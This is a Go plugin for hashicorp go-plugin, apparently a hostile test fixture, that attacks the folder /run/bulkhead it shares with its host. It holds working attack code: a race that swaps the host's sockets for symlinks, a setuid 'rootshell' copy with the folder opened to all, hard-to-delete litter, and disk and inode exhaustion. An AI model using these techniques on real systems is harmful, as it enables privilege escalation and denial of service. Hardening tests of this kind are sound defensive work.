// Command trespasser is a go-plugin plugin that attacks the folder which it shares with its host. It is a key/value plugin
// whose keys are commands. Run with the argument "euid" it prints its effective user, which shows whether a copy of it
// that is set-user-id works.
package main

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"

	"github.com/hashicorp/go-plugin"
	"github.com/hashicorp/go-plugin/examples/grpc/shared"
)

const folder = "/run/bulkhead"

func main() {
	if len(os.Args) > 1 && os.Args[1] == "euid" {
		fmt.Println(os.Geteuid())
		return
	}
	plugin.Serve(&plugin.ServeConfig{
		HandshakeConfig: shared.Handshake,
		Plugins:         map[string]plugin.Plugin{"kv": &shared.KVGRPCPlugin{Impl: commands{}}},
		GRPCServer:      plugin.DefaultGRPCServer,
	})
}

type commands struct{}

func (commands) Put(key string, value []byte) error {
	switch key {
	case "swap":
		go swap(string(value))
		return nil
	case "setuid":
		return leaveSetuid()
	case "litter":
		return litter(string(value))
	}
	return fmt.Errorf("unknown command %q", key)
}

// Get of "fill" fills the folder with bytes, of "names" with names, and tells how many there was room for.
func (commands) Get(key string) ([]byte, error) {
	switch key {
	case "fill":
		return fill()
	case "names":
		return names()
	case "entries":
		entries, err := os.ReadDir(folder)
		return []byte(fmt.Sprint(len(entries))), err
	}
	return nil, fmt.Errorf("unknown command %q", key)
}

// swap replaces every socket that the host makes by a link to the target, as fast as it can.
func swap(target string) {
	own := map[string]bool{}
	entries, _ := os.ReadDir(folder)
	for _, entry := range entries {
		own[entry.Name()] = true
	}
	for {
		directory, err := os.Open(folder)
		if err != nil {
			continue
		}
		found, _ := directory.Readdirnames(-1)
		directory.Close()
		for _, name := range found {
			if own[name] {
				continue
			}
			path := filepath.Join(folder, name)
			if os.Remove(path) == nil && os.Symlink(target, path) == nil {
				own[name] = true
			}
		}
	}
}

// leaveSetuid leaves a program that runs as its owner, and opens the folder for everybody.
func leaveSetuid() error {
	from, err := os.Open("/proc/self/exe")
	if err != nil {
		return err
	}
	defer from.Close()
	path := filepath.Join(folder, "rootshell")
	to, err := os.Create(path)
	if err != nil {
		return err
	}
	if _, err := io.Copy(to, from); err != nil {
		to.Close()
		os.Remove(path)
		// A small file system has no room for the program; a script shows as much.
		if err := os.WriteFile(path, []byte("#!/bin/sh\nid -u\n"), 0o755); err != nil {
			return err
		}
	} else {
		to.Close()
	}
	if err := os.Chmod(path, 0o755|os.ModeSetuid); err != nil {
		return err
	}
	return os.Chmod(folder, 0o777)
}

// litter leaves what is hard to remove: a deep tree, names that are no UTF-8, a folder that nobody may enter, and links.
func litter(target string) error {
	path := folder
	for depth := 0; depth < 60; depth++ {
		path = filepath.Join(path, strings.Repeat("d", 50))
		if err := os.Mkdir(path, 0o700); err != nil {
			return err
		}
	}
	for _, make := range []func() error{
		func() error { return os.WriteFile(folder+"/\xff\xfe\n", nil, 0o600) },
		func() error { return os.Mkdir(folder+"/closed", 0o700) },
		func() error { return os.Symlink(target, folder+"/closed/link") },
		func() error { return os.Chmod(folder+"/closed", 0) },
		func() error { return os.Symlink(target, folder+"/link") },
	} {
		if err := make(); err != nil {
			return err
		}
	}
	return nil
}

func fill() ([]byte, error) {
	file, err := os.Create(filepath.Join(folder, "full"))
	if err != nil {
		return nil, err
	}
	defer file.Close()
	written, chunk := 0, make([]byte, 64<<10)
	for written < 64<<20 {
		n, err := file.Write(chunk)
		written += n
		if err != nil {
			break
		}
	}
	return []byte(fmt.Sprint(written)), nil
}

func names() ([]byte, error) {
	made := 0
	for made < 20_000 {
		if os.Symlink("nowhere", filepath.Join(folder, fmt.Sprint("n", made))) != nil {
			break
		}
		made++
	}
	return []byte(fmt.Sprint(made)), nil
}
